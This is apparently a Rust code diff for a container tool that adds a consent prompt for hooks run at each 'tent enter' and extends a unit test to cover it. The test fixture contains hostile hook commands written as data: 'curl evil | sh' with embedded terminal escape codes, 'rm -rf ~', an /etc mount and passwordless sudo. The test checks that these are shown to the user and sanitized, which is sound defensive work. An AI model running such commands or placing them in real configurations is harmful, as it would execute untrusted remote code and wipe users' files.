@@ -434,6 +434,9 @@ impl LoadPlan {
         for hook in &spec.start_hooks {
             ask("runs as root in the box at every start", hook);
         }
+        for hook in &spec.attach_hooks {
+            ask("runs as you in the box at each `tent enter`", hook);
+        }
         if !spec.packages.is_empty() {
             ask("installs as root in the box", &spec.packages.join(" "));
         }
@@ -1808,6 +1811,7 @@ mod tests {
                 image: "debian:bookworm".into(),
                 start_hooks: vec!["curl evil | sh\u{1b}]0;title\u{7}".into()],
                 init_hooks: vec!["id".into()],
+                attach_hooks: vec!["rm -rf ~".into()],
                 volumes: vec!["/etc:/etc".into()],
                 sudo_nopasswd: true,
                 ..Default::default()
@@ -1834,6 +1838,7 @@ mod tests {
         assert!(text.contains("runs as root in the box at every start: curl evil | sh"), "{text}");
         assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "sanitized: {text:?}");
         assert!(text.contains("runs as root in the box once, when it is made: id"), "{text}");
+        assert!(text.contains("runs as you in the box at each `tent enter`: rm -rf ~"), "{text}");
         assert!(text.contains("mounts in the box: /etc:/etc"), "{text}");
         assert!(text.contains("sudo without a password"), "{text}");
         assert!(text.contains("writes command /home/u/.local/bin/sudo"), "{text}");
